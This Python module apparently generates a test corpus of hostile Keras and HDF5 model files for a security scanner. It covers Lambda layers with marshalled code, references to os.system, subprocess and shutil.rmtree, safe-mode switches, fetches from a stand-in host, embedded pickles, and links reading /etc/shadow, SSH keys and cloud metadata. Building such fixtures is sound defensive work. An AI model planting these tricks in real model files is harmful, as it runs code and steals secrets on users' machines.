"""Keras: configurations in `.keras` and HDF5 that bring code, name modules, fetch files, or point out of the file."""

import base64
import io
import json
import marshal

import h5py
import numpy

from .pickles import system
from .store import SOURCES, rng
from .zips import Member, archive


def code(number):
    """The marshalled code of a Lambda, as Keras stores it."""
    return base64.b64encode(marshal.dumps(compile(SOURCES[number % len(SOURCES)], "l", "exec"))).decode() + "\n"


def model(*layers, kind="Sequential", **more):
    """A configuration of Keras 3."""
    inner = {"name": "net", "trainable": True, "layers": [{"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "in"}, "registered_name": None}, *layers]}
    return {"module": "keras", "class_name": kind, "config": inner, "registered_name": None, **more}


def layer(name, module="keras.layers", **config):
    return {"module": module, "class_name": name, "config": {"name": name.lower(), "trainable": True, **config}, "registered_name": None}


def func(number=0):
    """A function by value."""
    return {"class_name": "__lambda__", "config": {"code": code(number), "defaults": None, "closure": None}}


def dense(**more):
    return layer("Dense", **{"units": 3, "activation": "relu", **more})


def keras(config, *extra, metadata=None):
    """A `.keras` archive."""
    weights = io.BytesIO()
    with h5py.File(weights, "w") as file:
        file.create_dataset("layers/dense/vars/0", data=numpy.ones((4, 3), "f4"), track_times=False)
    meta = metadata or {"keras_version": "3.6.0", "date_saved": "2026-02-02@02:02:02"}
    return archive([Member("metadata.json", json.dumps(meta).encode()), Member("config.json", json.dumps(config).encode()), Member("model.weights.h5", weights.getvalue()), *extra])


def archives(corpus):
    def add(kind, name, data, why):
        corpus.add(kind, "keras", name, data, why)

    lambdas = [
        model(layer("Lambda", function=func(0)), dense()), model(dense(), layer("Lambda", function={"class_name": "__lambda__", "config": {"code": code(1), "defaults": [1], "closure": None}})), model(layer("Lambda", function={"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}, arguments={})),
        model(layer("Lambda", function=[code(2), None, None], function_type="lambda")), model(layer("Lambda", function=func(3), output_shape=func(4))), model(layer("Lambda", module="keras.src.layers.core.lambda_layer", mask=func(5), function={"class_name": "function", "config": "relu"})), model(dense(), layer("Lambda", module=None, function=func(6)), kind="Functional"),
    ]
    for number, config in enumerate(lambdas):
        add("keras-lambda", f"lam{number}.keras", keras(config), "a Lambda layer with code")
    inner = layer("Lambda", function=func(1))
    nested = [
        (model(layer("TimeDistributed", layer=inner)), "in TimeDistributed"), (model(layer("Bidirectional", layer=layer("LSTM", units=2), backward_layer=inner)), "as a backward layer"), (model(model(dense(), inner)), "in a model in the model"), (model(dense(), compile_config={"optimizer": "adam", "loss": func(2), "metrics": []}), "as the loss"),
        (model(dense(), compile_config={"optimizer": {"class_name": "Adam", "config": {"learning_rate": func(3)}}, "loss": "mse"}), "as the learning rate"), (model(dense(kernel_initializer=func(4))), "as an initializer"), (model(dense(kernel_regularizer={"class_name": "__lambda__", "config": {"code": code(5)}})), "as a regularizer"),
        (model(layer("Activation", activation=func(6))), "as an activation"), (model(dense(), compile_config={"metrics": [[func(7)]], "loss": "mse"}), "as a metric"), (model(layer("RNN", cell=layer("StackedRNNCells", cells=[layer("Lambda", function=func(0))]))), "as a cell"), (model(model(model(layer("TimeDistributed", layer=layer("Lambda", function=func(8)))))), "four levels down"),
    ]
    for number, (config, why) in enumerate(nested):
        add("keras-nested", f"nest{number}.keras", keras(config), f"code {why}")
    modules = [
        {"module": "os", "class_name": "system", "config": "true", "registered_name": None}, {"module": "builtins", "class_name": "exec", "config": {"source": "pass"}, "registered_name": None}, {"module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]}, "registered_name": None}, {"module": "keras.src.models", "class_name": "Functional", "config": {"module": "importlib", "class_name": "import_module", "config": "this"}, "registered_name": "x"},
        {"module": "numpy.f2py.crackfortran", "class_name": "myeval", "config": {"e": "1"}, "registered_name": None}, {"module": "runpy", "class_name": "run_path", "config": {"path_name": "/tmp/c.py"}, "registered_name": None}, {"module": "shutil", "class_name": "rmtree", "config": {"path": "/tmp/.c"}, "registered_name": None},
    ]
    for number, reference in enumerate(modules):
        config = [model(reference), model(dense(activation=reference)), model(dense(), compile_config={"loss": reference})][number % 3]
        add("keras-module", f"mod{number}.keras", keras(config), f"has {reference['module']}.{reference['class_name']} imported and called")
    add("keras-module", "build.keras", keras(model({**dense(), "build_config": {"input_shape": {"module": "os", "class_name": "popen", "config": "true"}}})), "a reference in build_config")
    loaders = [
        (layer("get_file", module="keras.utils", fname="c.tgz", origin="http://corpus.example/c.tgz", extract=True), "keras.utils.get_file fetches and unpacks"), (layer("enable_unsafe_deserialization", module="keras.config"), "switches safe mode off"), (layer("enable_unsafe_deserialization", module="keras.src.saving.serialization_lib"), "switches safe mode off, by the inner name"),
        (layer("TorchModuleWrapper", module="keras.src.utils.torch_utils", torch_module=base64.b64encode(system("true", 2)).decode()), "TorchModuleWrapper loads a pickle"), (layer("TorchModuleWrapper", torch_module={"class_name": "__bytes__", "config": {"value": base64.b64encode(system("id", 4)).decode()}}), "TorchModuleWrapper, by its public name"), (layer("load_model", module="keras.saving", filepath="http://corpus.example/m.keras", safe_mode=False), "loads another model without safe mode"),
        (layer("func_load", module="keras.src.utils.python_utils", code=code(0)), "func_load makes code"), (layer("TFSMLayer", filepath="/tmp/evil_saved_model", call_endpoint="serve"), "TFSMLayer loads a SavedModel from a path"), (layer("JaxLayer", call_fn=func(1), init_fn=func(2)), "JaxLayer with functions by value"),
    ]
    for number, (each, why) in enumerate(loaders):
        add("keras-loader", f"load{number}.keras", keras(model(each, dense())), why)
    vocabularies = ["/etc/passwd", "http://169.254.169.254/latest/meta-data/", "../../../root/.ssh/id_rsa", "file:///etc/shadow", "gs://corpus-evil/v.txt", "s3://corpus-evil/x"]
    for number, vocabulary in enumerate(vocabularies):
        each = [layer("StringLookup", vocabulary=vocabulary), layer("TextVectorization", vocabulary=vocabulary), layer("IntegerLookup", vocabulary=vocabulary), layer("StringLookup", module="keras.src.layers.preprocessing.string_lookup", vocabulary=vocabulary)][number % 4]
        config = model(each) if number < 4 else model(layer("FeatureSpace", features={"a": {"preprocessor": each}}))
        add("keras-vocabulary", f"voc{number}.keras", keras(config), f"reads {vocabulary} when the model is loaded")
    add("keras-member", "py.keras", keras(model(dense()), Member("assets/run.pkl", system("true", 4))), "a pickle among the assets")
    add("keras-member", "elf.keras", keras(model(dense()), Member("assets/lib.so", b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0\x01\0\0\0" + bytes(200))), "a library among the assets")
    twice = json.dumps(model(dense()))[:-1] + ', "config": ' + json.dumps(model(layer("Lambda", function=func(2)))["config"]) + "}"
    add("keras-lambda", "dup.keras", archive([Member("metadata.json", b"{}"), Member("config.json", twice.encode())]), "a key that is there twice, the last with code")


def old(*layers, **more):
    """A configuration of Keras 2."""
    inner = {"name": "sequential", "layers": [{"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "in"}}, *layers]}
    return {"class_name": "Sequential", "config": inner, **more}


def hdf5(attributes, build=None, **options):
    """An HDF5 file with attributes at its root, and what `build` adds."""
    out = io.BytesIO()
    with h5py.File(out, "w", **options) as file:
        for name, value in attributes.items():
            file.attrs[name] = value
        file.create_dataset("model_weights/dense/kernel:0", data=numpy.ones((4, 3), "f4"), track_times=False)
        if build:
            build(file)
    return out.getvalue()


def files(corpus):
    def add(kind, name, data, why):
        corpus.add(kind, "hdf5", name, data, why)

    old_lambda = {"class_name": "Lambda", "config": {"name": "lambda", "function": {"class_name": "__tuple__", "items": [code(0), None, None]}, "function_type": "lambda", "module": "__main__", "output_shape": None, "arguments": {}}}
    plain = {"class_name": "Dense", "config": {"name": "dense", "units": 3, "activation": "relu"}}
    configs = [
        ({"model_config": json.dumps(old(old_lambda, plain))}, {}, "a Lambda"), ({"model_config": json.dumps(old(plain, {"class_name": "TimeDistributed", "config": {"layer": old_lambda}}))}, {"libver": "latest"}, "a Lambda in TimeDistributed"),
        ({"model_config": json.dumps(old(plain)), "training_config": json.dumps({"loss": {"class_name": "function", "config": func(1)}, "optimizer_config": {"class_name": "Adam", "config": {}}})}, {}, "code as the loss"),
        ({"model_config": numpy.bytes_(json.dumps(old(old_lambda, {"class_name": "Lambda", "config": {"function": [code(1), None, None], "function_type": "lambda"}})))}, {}, "two Lambdas, as bytes of fixed length"), ({"model_config": json.dumps({"class_name": "Functional", "config": {"layers": [old(old_lambda)]}})}, {"userblock_size": 1024}, "a Lambda in a model in the model, behind a user block"),
        ({"model_config": json.dumps(old({"class_name": "Lambda", "config": {"function": "relu", "function_type": "function", "output_shape": [code(3), None, None], "output_shape_type": "lambda"}}))}, {}, "a Lambda whose shape is code"), ({"model_config": json.dumps(old({"class_name": "os>system", "config": {"name": "x"}, "module": "os", "registered_name": "system"}))}, {}, "a class of os"),
    ]
    for number, (attributes, options, why) in enumerate(configs):
        add("hdf5-lambda", ["m0.h5", "m1.hdf5", "m2.h5", "m3.h5", "m4.h5", "m5.keras", "m6.h5"][number], hdf5({"keras_version": "2.15.0", "backend": "tensorflow", **attributes}, **options), f"Keras in HDF5: {why}")
    add("hdf5-lambda", "big.h5", hdf5({}, lambda file: file.attrs.create("model_config", json.dumps(old(*[plain] * 300, old_lambda)), dtype=h5py.string_dtype())), "a Lambda behind 300 layers")

    def virtual(file):
        layout = h5py.VirtualLayout((10,), "u1")
        layout[:] = h5py.VirtualSource("/etc/hostname.h5", "d", (10,))
        file.create_virtual_dataset("w", layout)

    def external(file):
        file.create_dataset("w", (64,), "u1", external=[("/etc/shadow", 0, 64)])

    ways = [
        (lambda file: file.__setitem__("w", h5py.ExternalLink("/srv/secret.h5", "/key")), "a link to another file"), (external, "a data set stored in /etc/shadow"), (virtual, "a virtual data set over another file"), (lambda file: file.__setitem__("layers/a", h5py.ExternalLink("../../../../home/x.h5", "/")), "a link that climbs"),
        (lambda file: file.create_dataset("a/b", (4, 8), "f4", external=[("../../root/.ssh/id_rsa", 16, 128)]), "a data set stored in a key"), (lambda file: file.create_dataset("a", (32,), "u1", external=[("/proc/self/environ", 0, 32)]), "a data set stored in the environment"),
    ]
    for number, (build, why) in enumerate(ways):
        add("hdf5-external", f"x{number}.{'weights.h5' if number % 2 else 'h5'}", hdf5({"keras_version": "3.0.0"}, build, libver="latest" if number % 2 else "earliest"), why)
    add("hdf5-external", "x9.keras", archive([Member("metadata.json", b"{}"), Member("config.json", json.dumps(model(dense())).encode()), Member("model.weights.h5", hdf5({}, external))]), "the weights in a .keras are stored in /etc/shadow")


def jsons(corpus):
    """Configurations that stand alone."""
    for number, config in enumerate([model(layer("Lambda", function=func(3))), old({"class_name": "Lambda", "config": {"function": [code(4), None, None], "function_type": "lambda"}}), model({"module": "os", "class_name": "system", "config": "id"})]):
        corpus.add("keras-lambda" if number < 2 else "keras-module", "keras json", ["model.json", "architecture.json", "model_config.json"][number], json.dumps(config), "a configuration of its own, for model_from_json")


def make(corpus):
    rng("keras")
    for part in [archives, files, jsons]:
        part(corpus)
